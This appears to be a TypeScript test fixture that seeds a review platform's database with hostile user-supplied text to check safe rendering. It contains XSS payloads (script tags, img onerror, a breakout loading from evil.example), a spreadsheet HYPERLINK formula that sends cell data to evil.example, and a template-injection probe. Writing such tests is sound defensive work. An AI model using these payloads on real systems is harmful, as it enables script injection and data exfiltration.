import { connect } from '#server/database/database.ts';
import { createUser } from '#server/features/accounts/accounts.factories.ts';
import { createInvitation } from '#server/features/invitations/invitations.factories.ts';
import { createAgency, createRecruiterWithLogin } from '#server/features/profiles/profiles.factories.ts';
import { createReview } from '#server/features/reviews/reviews.factories.ts';

/** Texts that may be in the database, since our input rules allow all of them. */
export const hostile = {
  name: `Zoë "><img src=x onerror=window.__hit=1><script>window.__hit=1</script>`,
  markup: `'"></textarea></script><img src=https://evil.example/x onerror=window.__hit=1>`,
  formula: '=HYPERLINK("https://evil.example/?"&A1,"hit") {{7*7}}',
  word: 'W'.repeat(79),
  towers: `Z\u0301\u0489\u0301\u0489\u0301\u0489algo 👩‍👩‍👧‍👦 𠮷 שלום (1) مرحبا 2`,
} as const;

const password = 'a long enough password';
export const recruiter = { email: 'zoe@placers.example', password };
export const moderator = { email: 'morgan@plaudit.example', password };

/**
 * A recruiter of an agency with reviews, invitations and replies, and a moderator; all with texts that try to break
 * out.
 */
export async function addHostilePeople(connectionString: string) {
  const database = connect(connectionString, 2);
  const agency = await createAgency(database, {
    slug: 'hostile',
    name: hostile.markup,
    description: `${hostile.markup}\n\n${hostile.word}\n\n${hostile.towers}`,
    location: hostile.formula,
    plan: 'ultimate_team',
  });
  const { recruiter: profile } = await createRecruiterWithLogin(database, {
    agency_id: agency.id,
    slug: 'hostile',
    name: hostile.name,
    headline: hostile.markup,
    about: `${hostile.markup}\n\n${hostile.word}`,
    location: hostile.word,
    roles: ['ROLE_RECRUITER', 'ROLE_RECRUITER_ADMIN', 'ROLE_ULTIMATE_TEAM'],
    user: { ...recruiter, name: hostile.name },
  });
  await createUser(database, { ...moderator, type: 'user', name: hostile.name, roles: ['ROLE_SUPER_ADMIN'] });
  const review = (wishes: object) =>
    createReview(database, {
      recruiter_id: profile.id,
      reviewer_name: hostile.name,
      name_display: 'full',
      company_name: hostile.markup,
      shows_company: true,
      private_note: hostile.markup,
      ...wishes,
    });
  const published = await review({
    title: hostile.markup,
    body: `${hostile.markup}\n\n${hostile.formula}`,
    overall: 2,
  });
  await review({ title: hostile.formula, body: `${hostile.formula} ${hostile.word.repeat(5)}` });
  await review({ title: hostile.word, body: `${hostile.towers} ${hostile.markup}`, reviewer_type: 'employer' });
  await review({ title: hostile.markup, body: hostile.markup, publication: 'unpublished', moderation: 'queued' });
  await database.kysely
    .insertInto('review_replies')
    .values({
      review_id: published.id,
      agency_id: agency.id,
      body: `${hostile.markup} ${hostile.word}`,
      created_at: new Date(),
      updated_at: new Date(),
    })
    .execute();
  const facts = { recruiter_id: profile.id, recipient_name: hostile.name, message: hostile.markup };
  await createInvitation(database, { ...facts, state: 'scheduled' });
  const sent = await createInvitation(database, facts);
  await database.close();
  return { reviewId: published.id, invitePath: `/review-invite/${sent.id}/${sent.token}` };
}
